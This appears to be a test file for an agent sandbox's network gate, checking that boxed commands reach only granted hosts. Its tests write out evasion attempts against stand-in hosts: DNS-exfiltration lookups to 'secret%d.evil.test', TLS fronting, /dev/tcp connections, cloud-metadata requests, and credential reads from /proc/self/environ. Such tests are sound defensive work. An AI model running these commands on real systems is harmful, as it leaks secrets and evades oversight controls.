// A box that reaches single hosts, in an internet of the test's own (test/fixtures/internet.ts): the gate, the box and the servers are real.

import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { createSocket } from "node:dgram";
import {
  appendFileSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test, { type TestContext } from "node:test";
import { promisify } from "node:util";
import type { Gate, Question, Reply } from "../../src/index.ts";
import { scripted, type ScriptedApprover } from "../fixtures/approver.ts";
import { makeProject, openDraft } from "../fixtures/draft-gate.ts";
import { makeTestDirectories } from "../fixtures/gate.ts";
import { ran, refused, until } from "../fixtures/run.ts";
import { otherDevice } from "../fixtures/internet.ts";
import { openScriptGate } from "../fixtures/script-gate.ts";
import { makeCertificate, serveLine, serveWeb } from "../fixtures/internet-servers.ts";

const directory = mkdtempSync(join(tmpdir(), "sallyport-certificates-"));
const directories = makeTestDirectories();
test.after(() => {
  directories.remove();
  rmSync(directory, { recursive: true, force: true });
});

const names = ["web.test", "other.test", "evil.test", "private.test", "mixed.test", "loopback.test", "six.test"];
const tls = makeCertificate(directory, names);
const servers = {
  web: await serveWeb("203.0.113.80", 443, tls),
  plain: await serveWeb("203.0.113.80", 80, null),
  ssh: await serveLine("203.0.113.80", 22, "SSH-2.0-test\r\n"),
  other: await serveWeb("203.0.113.81", 443, tls),
  database: await serveLine("203.0.113.82", 5432, "database\n"),
  sink: await serveLine("203.0.113.82", 80, ""),
  evil: await serveWeb("203.0.113.90", 443, tls),
  six: await serveWeb("2001:db8::80", 443, tls),
  private: await serveWeb("10.1.2.3", 443, tls),
  metadata: await serveWeb("169.254.169.254", 80, null),
  machine: await serveLine("127.0.0.1", 5432, "the machine's\n"),
  machineWeb: await serveWeb("127.0.0.1", 80, null),
};
type ServerName = keyof typeof servers;

function acceptsOf(): Record<ServerName, number> {
  return Object.fromEntries(Object.entries(servers).map(([name, { accepts }]) => [name, accepts])) as Record<
    ServerName,
    number
  >;
}

/** Which servers were reached by what `work` does. */
async function reachedBy<T>(work: () => Promise<T>): Promise<{ readonly value: T; readonly reached: ServerName[] }> {
  const before = acceptsOf();
  const value = await work();
  const after = acceptsOf();
  return { value, reached: (Object.keys(after) as ServerName[]).filter((name) => after[name] > before[name]) };
}

interface Inside {
  readonly gate: Gate;
  readonly approver: ScriptedApprover;
  bash(script: string, more?: Readonly<Record<string, unknown>>): Promise<Reply>;
  text(script: string, more?: Readonly<Record<string, unknown>>): Promise<string>;
}

let sessions = 0;

function open(
  t: TestContext,
  network: readonly string[],
  says: ScriptedApprover["says"] = () => null,
  policy: Readonly<Record<string, unknown>> = {},
): Inside {
  const approver = scripted(says);
  const { gate, bash, close } = openScriptGate(
    directories,
    {
      network,
      policy,
      paths: [
        { path: "/usr", mode: "r" },
        { path: directory, mode: "r" },
        { path: process.execPath, mode: "r" },
      ],
    },
    { approvers: [approver], session: `s${(sessions += 1)}` },
  );
  t.after(() => close());
  const text = async (script: string, more = {}) => {
    const reply = await bash(script, more);
    assert.ok(reply.ok, JSON.stringify(reply));
    return `${String(reply.result["stdout"])}${String(reply.result["stderr"])}`;
  };
  return { gate, approver, bash, text };
}

const curl = (url: string) => `curl -sS --max-time 20 --cacert ${tls.ca} ${url}`;
const yes = (question: Question, scope: "once" | "session" = "once") =>
  ({ decision: "allow", digest: question.action.digest, scope }) as const;

test("a granted host is reached by its name, with no variable set; another one is not", async (t) => {
  const gate = open(t, ["web.test:443"]);
  const { value, reached } = await reachedBy(() =>
    gate.text(`env | grep -i proxy; ${curl("https://web.test/a")}; ${curl("https://evil.test/b")}`),
  );
  assert.match(value, /^web\.test GET \/a\ncurl: /);
  assert.deepEqual(reached, ["web"]);
  // The control: without the box the same program reaches both.
  const both = `${curl("https://web.test/a")}; ${curl("https://evil.test/b")}`;
  const { reached: without } = await reachedBy(() => promisify(execFile)("/bin/sh", ["-c", both]));
  assert.deepEqual(without, ["web", "evil"]);
});

test("names, ports and addresses that were not granted: nothing arrives", async (t) => {
  const gate = open(t, ["web.test:443"]);
  const tries = [
    curl("http://web.test/"),
    curl("https://203.0.113.80/"),
    curl("http://127.0.0.1/"),
    curl("http://169.254.169.254/"),
    curl("https://private.test/"),
    "cat < /dev/tcp/db.test/5432",
    "cat < /dev/tcp/127.0.0.1/5432",
    "cat < /dev/tcp/web.test/22",
  ];
  const { value, reached } = await reachedBy(() => gate.text(tries.join(" 2>&1; ")));
  assert.deepEqual(reached, [], value);
});

test("a name never leads to a private address, unless its grant says so", async (t) => {
  const closed = open(t, ["private.test:443", "metadata.test:80", "mixed.test:443", "loopback.test:80"]);
  const tries = ["https://private.test/", "http://metadata.test/", "https://mixed.test/", "http://loopback.test/"];
  const { value, reached } = await reachedBy(() => closed.text(tries.map(curl).join("; ")));
  assert.deepEqual(reached, [], value);
  const opened = open(t, [{ host: "private.test", private: true } as unknown as string, "169.254.169.254:80"]);
  const { reached: then } = await reachedBy(() =>
    opened.text(`${curl("https://private.test/")}; ${curl("http://169.254.169.254/")}`),
  );
  assert.deepEqual(then, ["private", "metadata"]);
});

test("the machine's localhost is reached if it is granted, and only that port", async (t) => {
  const gate = open(t, ["localhost:5432"]);
  const { value, reached } = await reachedBy(() =>
    gate.text("head -1 < /dev/tcp/localhost/5432; head -1 < /dev/tcp/127.0.0.1/5432; cat < /dev/tcp/127.0.0.1/80 2>&1"),
  );
  assert.match(value, /^the machine's\nthe machine's\n/);
  assert.deepEqual(reached, ["machine"]);
});

test("a server in the box is the box's own, also on a port that is granted elsewhere", async (t) => {
  const gate = open(t, ["db.test:5432"]);
  const script = `python3 -c '
import socket
own = socket.create_server(("127.0.0.1", 5432))
c = socket.create_connection(("localhost", 5432)); own.accept()[0].sendall(b"own\\n"); print(c.recv(9).decode(), end="")
print(socket.create_connection(("db.test", 5432)).recv(99).decode(), end="")'`;
  const { value, reached } = await reachedBy(() => gate.text(script));
  assert.equal(value, "own\ndatabase\n");
  assert.deepEqual(reached, ["database"]);
});

test("another name in the first message of TLS is refused", async (t) => {
  const gate = open(t, ["web.test:443"]);
  const fronted = `curl -sS --max-time 20 --cacert ${tls.ca} --connect-to evil.test:443:web.test:443 https://evil.test/`;
  const before = servers.web.got.length;
  const { value, reached } = await reachedBy(() => gate.text(fronted));
  assert.match(value, /^curl: /);
  assert.deepEqual(reached, ["web"]); // it was connected to, and got nothing
  assert.equal(servers.web.got.length, before);
});

test("a host that is not granted is asked about while the program holds, and then reached", async (t) => {
  const gate = open(t, ["web.test:443"], (question) => yes(question));
  const { value, reached } = await reachedBy(() => gate.text(`sh -c "${curl("https://other.test/x")}"`));
  assert.equal(value, "other.test GET /x\n");
  assert.deepEqual(reached, ["other"]);
  assert.equal(gate.approver.asked.length, 1);
  assert.match(gate.approver.asked[0]?.text ?? "", /reach other\.test:443/);
});

test("if nobody answers, the reply says what was not reached and which question is open", async (t) => {
  const gate = open(t, ["web.test:443"], () => ({ nobody: "nobody is there" }));
  const reply = await gate.bash(curl("https://other.test/x"));
  assert.ok(reply.ok);
  const [line] = reply.result["network"] as { host: string; port: number; decision: string; question?: string }[];
  assert.deepEqual([line?.host, line?.port, line?.decision], ["other.test", 443, "ask"]);
  assert.match(line?.question ?? "", /^q-/);
  assert.match(String(reply.result["hint"]), /other\.test:443/);
});

test("a no is not asked again in the call, and fifty connections are one question", async (t) => {
  const gate = open(t, ["web.test:443"], (question) => ({ ...yes(question), decision: "deny", reason: "not this" }));
  const script = `python3 -c '
import socket, threading
def go():
    try: socket.create_connection(("other.test", 443), 20).recv(1)
    except OSError: pass
threads = [threading.Thread(target=go) for _ in range(50)]
[t.start() for t in threads]; [t.join() for t in threads]'`;
  const { reached } = await reachedBy(() => gate.text(script));
  assert.deepEqual(reached, []);
  assert.equal(gate.approver.asked.length, 1);
});

test("a rule that denies a host holds for a program that is granted it, also where the script hides its name", async (t) => {
  const script = `python3 -c '
import socket
try: socket.create_connection((".".join(["other", "test"]), 443)).close()
except OSError as error: print(error)
'; ${curl("https://web.test/b")}`;
  const rules = [{ decide: "deny", effect: "network", host: "other.test" }];
  const gate = open(t, ["*.test:443"], () => null, { rules });
  const { value, reached } = await reachedBy(() => gate.text(script));
  assert.match(value, /web\.test GET \/b\n$/);
  assert.deepEqual(reached, ["web"]);
  const { reached: without } = await reachedBy(() => open(t, ["*.test:443"]).text(script));
  assert.deepEqual(without, ["web", "other"], "the control");
  const named = await gate.bash(curl("https://other.test/a"));
  assert.ok(!named.ok && named.error === "net_denied", JSON.stringify(named));
});

test("a host that has only an address of IPv6 is reached through the gate", async (t) => {
  const { value, reached } = await reachedBy(() => open(t, ["six.test:443"]).text(curl("https://six.test/a")));
  assert.equal(value, "six.test GET /a\n");
  assert.deepEqual(reached, ["six"]);
  const script = "n=$(echo six.test | cat); curl -sS --max-time 5 https://$n/";
  assert.deepEqual((await reachedBy(() => open(t, ["web.test:443"]).text(script))).reached, []);
});

test("UDP goes nowhere, also to a host and a port that are granted", async (t) => {
  const got: string[] = [];
  const server = createSocket("udp4", (message) => got.push(message.toString()));
  t.after(() => server.close());
  await new Promise<void>((resolve) => server.bind(5353, "203.0.113.80", resolve));
  const send = (text: string) => `python3 -c '
import socket
for to in ("web.test", "203.0.113.80"):
    try: print(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${text}", (to, 5353)))
    except OSError as error: print(error)'`;
  const gate = open(t, ["web.test:5353", "203.0.113.80:5353"]);
  await gate.text(send("from the box"));
  await promisify(execFile)("/bin/sh", ["-c", send("the control")]);
  await until("the control has arrived", () => got.length >= 2);
  assert.deepEqual(got, ["the control", "the control"]);
});

test("a box with hosts has no network device but its own lo", async (t) => {
  const devices = (text: string) => [...text.matchAll(/^ *([^ |:]+):/gm)].map(([, name]) => name);
  assert.ok(devices(readFileSync("/proc/net/dev", "utf8")).includes(otherDevice), "the control");
  const script = `cat /proc/net/dev; ${curl("https://web.test/a")} >&2`;
  const { stdout, stderr } = ran(await open(t, ["web.test:443"]).bash(script));
  assert.deepEqual(devices(stdout), ["lo"]);
  assert.equal(stderr, "web.test GET /a\n");
});

test("a yes for the session holds for the next call", async (t) => {
  const gate = open(t, ["web.test:443"], (question) => yes(question, "session"));
  await gate.text(curl("https://other.test/1"));
  assert.equal(await gate.text(curl("https://other.test/2")), "other.test GET /2\n");
  assert.equal(gate.approver.asked.length, 1);
});

test("without any grant, what a script names is asked about before it runs", async (t) => {
  const gate = open(t, [], (question) => yes(question));
  assert.equal(await gate.text(curl("https://web.test/y")), "web.test GET /y\n");
  assert.equal(gate.approver.asked.length, 1);
  const reply = await gate.bash(`sh -c 'echo hidden | base64 >/dev/null'; ${curl("https://web.test/z")}`, {
    needs: { network: ["web.test:443"] },
  });
  assert.ok(reply.ok, JSON.stringify(reply));
  assert.equal(reply.result["stdout"], "web.test GET /z\n");
});

test("needs.network: a no refuses the call, and nothing ran", async (t) => {
  const gate = open(t, [], (question) => ({ ...yes(question), decision: "deny", reason: "no" }));
  const reply = await gate.bash("touch ran", { needs: { network: ["db.test:5432"] } });
  assert.ok(!reply.ok);
  assert.equal(reply.error, "approval_denied");
  const yesGate = open(t, [], (question) => yes(question));
  assert.equal(
    await yesGate.text("head -1 < /dev/tcp/db.test/5432", { needs: { network: ["db.test:5432"] } }),
    "database\n",
  );
});

test("the result and the record say what was reached, to the byte", async (t) => {
  const gate = open(t, ["web.test:80"]);
  const reply = await gate.bash(
    `for i in 1 2 3; do printf 'GET /%s HTTP/1.0\\r\\nHost: web.test\\r\\n\\r\\n' $i | nc -q 5 web.test 80 >/dev/null; done`,
  );
  assert.ok(reply.ok);
  assert.equal((reply.result["enforced"] as { network: string }).network, "hosts");
  assert.deepEqual(reply.result["network"], [{ host: "web.test", port: 80, decision: "allow" }]);
  const entries = [...gate.gate.journal.list({ session: gate.gate.session })].filter(({ event }) =>
    event.startsWith("network."),
  );
  assert.deepEqual(entries.map(({ event }) => event).toSorted(), ["network.opened", "network.used"]);
  const used = entries.find(({ event }) => event === "network.used")?.outcome as {
    connections: number;
    bytes_out: number;
    addresses: string[];
  };
  assert.equal(used.connections, 3);
  assert.equal(used.bytes_out, 3 * "GET /1 HTTP/1.0\r\nHost: web.test\r\n\r\n".length);
  assert.deepEqual(used.addresses, ["203.0.113.80"]);
});

test("what the gate refused although the host was allowed is in the reply and in the record, also if nothing was reached", async (t) => {
  const opened = { host: "web.test", open: true, methods: ["GET"] } as unknown as string;
  const gate = open(t, ["private.test:443", "other.test:443", "evil.test:80", opened]);
  const fronted = `curl -sS --max-time 20 --cacert ${tls.ca} --connect-to evil.test:443:other.test:443 https://evil.test/`;
  const tries = [
    curl("https://private.test/"),
    fronted,
    curl("http://evil.test/"),
    "curl -sSk -X POST -d x https://web.test/",
  ];
  const reply = await gate.bash(tries.join("; "));
  assert.ok(reply.ok);
  const said = {
    "private.test:443": [0, 1, "private.test leads to 10.1.2.3, which is not a public address"],
    "other.test:443": [1, 1, "TLS asks for another host than other.test"],
    "evil.test:80": [0, undefined, "203.0.113.90:80 could not be reached: ECONNREFUSED"],
    "web.test:443": [0, 1, "POST is not among GET"],
  };
  const used = [...gate.gate.journal.list({ session: gate.gate.session })].filter(
    ({ event }) => event === "network.used",
  );
  const lines = used.map(({ args, outcome }) => {
    const { connections, refused, why } = outcome as Record<string, unknown>;
    return [(args as { host: string }).host, [connections, refused, why]];
  });
  assert.deepEqual(Object.fromEntries(lines), said);
  for (const [host, [connections, , why]] of Object.entries(said)) {
    const words = connections === 0 ? "not reached" : "reached, but not every time";
    assert.ok(
      String(reply.result["hint"]).includes(`${host} was ${words}: ${String(why)}`),
      String(reply.result["hint"]),
    );
  }
});

test("more bytes than the limit are not sent, and the result says so", async (t) => {
  const gate = open(t, ["db.test:80"]);
  const before = servers.sink.got.reduce((sum, { length }) => sum + length, 0);
  const reply = await gate.bash("head -c 70000000 /dev/zero > /dev/tcp/db.test/80");
  assert.ok(reply.ok);
  assert.equal(reply.result["limit_hit"], "network");
  const got = servers.sink.got.reduce((sum, { length }) => sum + length, 0) - before;
  assert.ok(got <= 64 * 1024 * 1024, `${got} bytes arrived`);
  servers.sink.got.length = 0;
});

test("a call leaves the gate's own standard input open, from which MCP clients are read", async (t) => {
  const before = linkOf("0");
  await open(t, ["web.test:443"]).text(curl("https://web.test/"));
  assert.notEqual(before, "");
  assert.equal(linkOf("0"), before);
});

test("after the call the gate holds no socket of it, also if the call was killed", async (t) => {
  const gate = open(t, ["web.test:443", "db.test:5432"]);
  await gate.text(curl("https://web.test/"));
  const sockets = () => readdirSync("/proc/self/fd").filter((fd) => linkOf(fd).startsWith("socket:")).length;
  const before = sockets();
  await gate.text(curl("https://web.test/"));
  await gate.bash("cat < /dev/tcp/db.test/5432", { timeout_s: 1 });
  await until("its sockets are closed", () => sockets() <= before);
});

function linkOf(fd: string): string {
  try {
    return readlinkSync(`/proc/self/fd/${fd}`);
  } catch {
    return "";
  }
}

test("a thousand questions about names leave nothing outside, and too many names are refused", async (t) => {
  const gate = open(t, ["web.test:443"]);
  const script = `python3 -c '
import socket
found = 0
for i in range(1000):
    try: socket.getaddrinfo("secret%d.evil.test" % i, 443); found += 1
    except OSError: pass
print(found)'`;
  const { value, reached } = await reachedBy(() => gate.text(script));
  assert.equal(value, "511\n"); // one is granted, and has its address already
  assert.deepEqual(reached, []);
});

test("a host that the gate opens: a credential that the agent never sees, methods, and programs that trust the gate", async (t) => {
  appendFileSync("/etc/ssl/certs/ca-certificates.crt", readFileSync(tls.ca)); // of this internet
  process.env["WEB_TOKEN"] = "s3cret-of-the-person";
  const opened = { host: "web.test", open: true, credential: { env: "WEB_TOKEN" } };
  const gate = open(t, [opened as unknown as string]);
  const before = servers.web.authorizations.length;
  const python = `python3 -c 'import urllib.request; print(urllib.request.urlopen("https://web.test/py").read().decode(), end="")'`;
  const node = `${process.execPath} -e 'fetch("https://web.test/node").then((r) => r.text()).then((t) => process.stdout.write(t))'`;
  const said = await gate.text(
    `curl -sS https://web.test/curl; ${python}; ${node}; curl -sS -X POST -d x https://web.test/no; env; cat /proc/self/environ`,
  );
  assert.match(said, /web\.test GET \/curl\nweb\.test GET \/py\nweb\.test GET \/node\n/);
  assert.doesNotMatch(said, /POST \/no|s3cret/);
  assert.deepEqual(servers.web.authorizations.slice(before), Array(3).fill("Bearer s3cret-of-the-person"));
});

test("when a request with the credential cannot be recorded, the call is refused, and the gate lives", async (t) => {
  appendFileSync("/etc/ssl/certs/ca-certificates.crt", readFileSync(tls.ca)); // of this internet
  process.env["WEB_TOKEN"] = "s3cret-of-the-person";
  const opened = { host: "web.test", open: true, credential: { env: "WEB_TOKEN" } } as unknown as string;
  const faults: unknown[] = [];
  const onFault = (error: unknown): void => void faults.push(error);
  process.on("uncaughtException", onFault);
  t.after(() => process.off("uncaughtException", onFault));
  for (const isWritable of [true, false]) {
    const { gate } = open(t, [opened]);
    const go = join(directory, `go-${isWritable}`);
    const fetched = "curl -sS --max-time 20 https://web.test";
    const script = `${fetched}/0 -o /dev/null; echo ready; until [ -e ${go} ]; do sleep 0.05; done; for n in 1 2; do ${fetched}/$n; done`;
    const before = servers.web.authorizations.length;
    let isReady = false;
    const running = gate.call({ tool: "Bash", args: { script } }, { onOutput: () => void (isReady = true) });
    const isRecorded = (): boolean =>
      [...gate.journal.list({ session: gate.session })].some(({ event }) => event === "network.request");
    await until("the first request is on record", () => isReady && isRecorded());
    if (!isWritable) gate.journal.close();
    writeFileSync(go, "");
    const reply = await running;
    const requests = servers.web.authorizations.length - before;
    if (isWritable) {
      assert.match(String(ran(reply).stdout), /GET \/1\nweb\.test GET \/2\n/, "the control");
      assert.equal(requests, 3);
    } else {
      assert.match(refused(reply).message, /cannot be written/);
      assert.equal(requests, 2, "no request follows the one that is not on record");
    }
  }
  assert.deepEqual(faults, []);
  assert.equal(await open(t, []).text("echo lives"), "lives\n", "another session of the same gate process");
});

test("a package file of a host with `cache` comes from the host once, for all sessions, and the record says so", async (t) => {
  appendFileSync("/etc/ssl/certs/ca-certificates.crt", readFileSync(tls.ca)); // of this internet
  const opened = { host: "web.test", open: true, cache: true } as unknown as string;
  const path = "/tiny/-/tiny-1.0.0.tgz";
  const said = `web.test GET ${path}\n`;
  const first = open(t, [opened]);
  assert.equal(await first.text(`curl -sS https://web.test${path}`), said);
  const kept = join(directories.state, "packages");
  await until("it is kept", () => readdirSync(kept).some((name) => !name.endsWith(".new")));
  const second = open(t, [opened]);
  const { value, reached } = await reachedBy(() => second.text(`curl -sS https://web.test${path}; ls ${kept}`));
  assert.match(value, new RegExp(`^${said}ls: .*No such file`), "and no box shows where it lies");
  assert.deepEqual(reached, []);
  const [entry] = [...second.gate.journal.list({ session: second.gate.session })].filter(
    ({ event }) => event === "network.used",
  );
  assert.deepEqual(entry?.outcome, {
    connections: 0,
    bytes_kept: said.length,
    bytes_out: 0,
    bytes_in: 0,
    addresses: [],
  });
  const closed = open(t, ["other.test:443"]);
  assert.doesNotMatch(await closed.text(`curl -sS --max-time 5 https://web.test${path}`), /tiny-1/);
});

// The last one: it has a configuration directory of its own.
test("in a draft, and with a layer over a path granted rw, the same holds", async (t) => {
  const project = makeProject(t, { "a.txt": "one\n" });
  const written = join(project.outside, "written");
  mkdirSync(written);
  const gate = openDraft(t, project, { network: ["web.test:80"], paths: [{ path: written, mode: "rw" }] });
  const script = `cat a.txt; curl -sS http://web.test/in-a-draft; curl -sS --max-time 5 http://evil.test/ || echo $? > ${written}/code`;
  const { value, reached } = await reachedBy(() => gate.bash(script));
  assert.equal(value, "one\nweb.test GET /in-a-draft\n");
  assert.deepEqual(reached, ["plain"]);
  assert.match(readFileSync(join(written, "code"), "utf8"), /^\d+\n$/);
});
